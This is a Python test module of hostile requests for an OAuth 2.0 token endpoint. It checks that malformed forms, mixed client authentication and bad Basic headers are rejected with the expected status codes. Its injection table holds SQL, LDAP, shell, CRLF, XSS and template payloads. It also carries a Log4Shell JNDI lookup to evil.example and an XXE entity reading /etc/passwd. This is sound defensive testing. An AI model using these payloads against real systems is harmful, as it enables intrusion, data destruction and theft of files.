"""Forms and Basic headers that two readers could read in two ways, and values that inject."""

from urllib.parse import urlencode

from tests.hostile.table import Hostile, Sent, built, http
from tests.people import BASIC, TOKEN
from tests.protocol.table import (
    CLIENT_CREDENTIALS,
    FORM,
    Pairs,
    World,
    basic,
    by_basic,
    by_post,
    form,
    secret_post,
)
from tests.raw import Request

ONCE = "RFC 6749 section 3.2"
ONE_METHOD = "RFC 6749 section 2.3"
GRANT = "grant_type=client_credentials"


def text(body: bytes | str, media_type: str = FORM) -> Sent:
    """This body, as it is."""
    octets = body.encode() if isinstance(body, str) else body
    return http("POST", TOKEN, ("Content-Type", media_type), body=octets)


def right_but(*pairs: tuple[str, str | bytes]) -> Sent:
    """A right request with these parameters after it."""
    return built(lambda w: by_post(w, *pairs))


def right_as(media_type: str) -> Sent:
    """A right form, announced as something else."""
    return built(lambda w: Request("POST", TOKEN, (("Content-Type", media_type),), by_post(w).body))


def right_in(encode: str) -> Sent:
    """A right form in another character encoding."""
    return built(
        lambda w: Request(
            "POST", TOKEN, (("Content-Type", FORM),), by_post(w).body.decode().encode(encode)
        )
    )


def client(client_id: str | bytes, secret: str | bytes) -> Sent:
    """client_secret_post with these values."""
    pairs: Pairs = (*CLIENT_CREDENTIALS, ("client_id", client_id), ("client_secret", secret))
    return built(lambda _: form(*pairs))


def named(client_id: str) -> Sent:
    """client_secret_post by this client."""
    return client(client_id, "s")


def header(value: str | bytes, *more: tuple[str, str | bytes], path: str = TOKEN) -> Sent:
    """This Authorization header, for client authentication or sign-in."""
    if path == BASIC:
        return http("GET", path, ("Authorization", value), *more)
    body = urlencode(CLIENT_CREDENTIALS).encode()
    return http("POST", path, ("Content-Type", FORM), ("Authorization", value), *more, body=body)


def password(username: str) -> Sent:
    """The password grant for this user."""
    return built(
        lambda _: form(("grant_type", "password"), ("username", username), ("password", "p" * 20))
    )


def shown(w: World) -> str:
    """The right Basic header."""
    return basic(w.app.client_id, w.app.client_secret)


INJECTIONS = {
    "CWE-89": [
        "' OR '1'='1",
        "a'; DROP TABLE users; --",
        '" OR ""="',
        "1 UNION SELECT 1",
        "a%' --",
    ],
    "CWE-90": ["*)(uid=*))(|(uid=*", "admin)(&)"],
    "CWE-943": ['{"$ne":null}', "[$ne]=1"],
    "CWE-78": ["$(id)", "`id`", "| id"],
    "CWE-93": ["a\r\nSet-Cookie: a=b", "a\nb", "a\x85b", "a\u2028b"],
    "CWE-117": ["a\x1b[2J", '"}\n{"event":"signed in"'],
    "CWE-79": ["<script>alert(1)</script>", "javascript:alert(1)"],
    "CWE-134": ["%s%s%s%n", "{0.__class__}", "{{7*7}}"],
    "CVE-2021-44228": ["${jndi:ldap://evil.example/a}"],
    "CWE-158": ["a\0b", "\0"],
    "CWE-176": [
        "\uff41dmin",
        "admin\u202etxt",
        "a\u0301" * 50,
        "\ufeffadmin",
        "\u0131@example.com",
    ],
}

FORMS = [
    *(
        (
            f"twice-{name}",
            ONCE,
            text(f"{GRANT}&client_id=a&client_secret=b&scope=c&{name}=x&{name}=x"),
            (400,),
        )
        for name in ("grant_type", "client_id", "client_secret", "scope", "username", "password")
    ),
    ("twice-encoded-name", ONCE, text(f"{GRANT}&%67rant_type=password"), (400,)),
    ("twice-empty", ONCE, text(f"{GRANT}&grant_type="), (400,)),
    ("grant-unknown", "RFC 6749 section 5.2", text("grant_type=implicit"), (400,)),
    ("grant-upper-case", "RFC 6749 section 4.4.2", text("grant_type=CLIENT_CREDENTIALS"), (400,)),
    ("grant-with-space", "RFC 6749 section 4.4.2", text("grant_type=client_credentials+"), (400,)),
    (
        "grant-refresh-token",
        "RFC 6749 section 6",
        text("grant_type=refresh_token&refresh_token=a"),
        (400,),
    ),
    ("grant-code", "RFC 6749 section 4.1.3", text("grant_type=authorization_code&code=a"), (400,)),
    ("grant-list", ONCE, text("grant_type[]=client_credentials"), (400,)),
    ("empty", "RFC 6749 section 5.2", text(""), (400,)),
    ("percent-alone", "WHATWG URL", text(f"{GRANT}&client_id=%"), (400,)),
    ("percent-no-hex", "WHATWG URL", text(f"{GRANT}&client_id=%zz"), (400,)),
    ("percent-unicode", "WHATWG URL", text(f"{GRANT}&client_id=%u0061"), (400,)),
    ("not-utf-8", "RFC 3629 section 3", text(f"{GRANT}&client_id=%ff"), (400,)),
    ("overlong-utf-8", "RFC 3629 section 10", text(f"{GRANT}&client_id=%c0%ae"), (400,)),
    ("surrogate-utf-8", "RFC 3629 section 3", text(f"{GRANT}&client_id=%ed%a0%80"), (400,)),
    ("raw-8-bit", "RFC 3629 section 3", text(GRANT.encode() + b"&client_id=\xff"), (400,)),
    ("semicolons", "CVE-2021-23336", text(f"{GRANT};client_id=a;client_secret=b"), (400,)),
    ("utf-16", "RFC 6749 appendix B", right_in("utf-16"), (400,)),
    *(
        (f"media-{n}", source, right_as(media), (422,))
        for n, (source, media) in enumerate(
            (
                ("RFC 6749 section 3.2", "application/json"),
                ("CVE-2021-32677", "text/plain"),
                ("RFC 6749 section 3.2", "multipart/form-data; boundary=a"),
                ("RFC 6749 section 3.2", "application/x-www-form-urlencodedx"),
                ("RFC 6749 section 3.2", "text/html, " + FORM),
                ("CVE-2024-24762", FORM[:-1] + "; " + 'a="\\' * 500),
                ("RFC 9110 section 8.3", ""),
            )
        )
    ),
    (
        "media-multipart-bomb",
        "CVE-2024-47874",
        text(b"--a\r\n" * 10_000, "multipart/form-data; boundary=a"),
        (422,),
    ),
    ("media-twice", "RFC 9110 section 5.3", header("Basic x", ("Content-Type", FORM)), (422,)),
    (
        "json",
        "RFC 6749 section 3.2",
        text('{"grant_type":"client_credentials"}', "application/json"),
        (422,),
    ),
    (
        "xml-entity",
        "CWE-611",
        text("<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>", "text/xml"),
        (422,),
    ),
]

METHODS = [
    (
        "basic-and-post",
        ONE_METHOD,
        built(lambda w: by_basic(w, *CLIENT_CREDENTIALS, *secret_post(w.app))),
        (400,),
    ),
    ("post-and-assertion", ONE_METHOD, right_but(("client_assertion_type", "a")), (400,)),
    (
        "other-client-id",
        ONE_METHOD,
        built(lambda w: by_basic(w, *CLIENT_CREDENTIALS, ("client_id", w.other.client_id))),
        (400,),
    ),
    (
        "header-twice",
        "RFC 9110 section 11.6.2",
        built(
            lambda w: Request(
                "POST",
                TOKEN,
                (("Content-Type", FORM), ("Authorization", shown(w)), ("Authorization", shown(w))),
                GRANT.encode(),
            )
        ),
        (400,),
    ),
    (
        "secret-of-another",
        "RFC 6749 section 5.2",
        built(
            lambda w: form(
                *CLIENT_CREDENTIALS,
                ("client_id", w.app.client_id),
                ("client_secret", w.other.client_secret),
            )
        ),
        (401,),
    ),
    (
        "secret-cut",
        "CWE-697",
        built(
            lambda w: form(
                *CLIENT_CREDENTIALS,
                ("client_id", w.app.client_id),
                ("client_secret", w.app.client_secret[:-1]),
            )
        ),
        (401,),
    ),
    (
        "secret-longer",
        "CWE-697",
        built(
            lambda w: form(
                *CLIENT_CREDENTIALS,
                ("client_id", w.app.client_id),
                ("client_secret", w.app.client_secret + "A"),
            )
        ),
        (401,),
    ),
    (
        "secret-upper-case",
        "CWE-178",
        built(
            lambda w: form(
                *CLIENT_CREDENTIALS,
                ("client_id", w.app.client_id),
                ("client_secret", w.app.client_secret.upper()),
            )
        ),
        (401,),
    ),
    (
        "client-id-upper-case",
        "CWE-178",
        built(
            lambda w: form(
                *CLIENT_CREDENTIALS, ("client_id", w.app.client_id.upper()), ("client_secret", "s")
            )
        ),
        (401,),
    ),
    ("client-id-of-nobody", "CWE-287", client("00000000-0000-0000-0000-000000000000", ""), (401,)),
    ("client-id-first-party", "CWE-287", client("first-party", "s"), (401,)),
    ("client-id-surrogate", "CWE-176", client(b"\xed\xa0\x80", "s"), (400,)),
    (
        "client-deleted",
        "contract section 1.4",
        built(lambda w: form(*CLIENT_CREDENTIALS, *secret_post(w.deleted))),
        (401,),
    ),
]

BASICS = [
    (f"basic-{name}-at-{place}", source, header(value, path=path), (401,))
    for path, place in ((TOKEN, "token"), (BASIC, "sign-in"))
    for name, source, value in (
        ("empty", "RFC 7617 section 2", "Basic "),
        ("no-base64", "RFC 4648 section 3.3", "Basic !!!!"),
        ("no-padding", "RFC 4648 section 3.2", "Basic YTpi" + "YQ"),
        ("url-alphabet", "RFC 4648 section 5", "Basic YTo_-w=="),
        ("line-break", "RFC 4648 section 3.1", "Basic YT\tpi"),
        ("no-colon", "RFC 7617 section 2", "Basic YWI="),
        ("not-utf-8", "RFC 7617 section 2.1", "Basic /zr/"),
        ("trailing", "RFC 4648 section 3.3", "Basic YTpi=="),
        ("8-bit", "RFC 9110 section 11.4", b"Basic YTpi\xff"),
        ("digest", "RFC 7616", 'Digest username="a"'),
        ("negotiate", "RFC 4559", "Negotiate YII="),
        ("none", "RFC 9110 section 11.6.2", "None"),
    )
]
ROWS = [
    *(Hostile(*row) for row in (*FORMS, *METHODS, *BASICS)),
    *(
        Hostile(f"{where}-{source}-{n}", source, sent(value), (status,))
        for source, values in INJECTIONS.items()
        for n, value in enumerate(values)
        for where, sent, status in (
            ("username", password, 400),
            ("client-id", named, 401),
        )
    ),
]
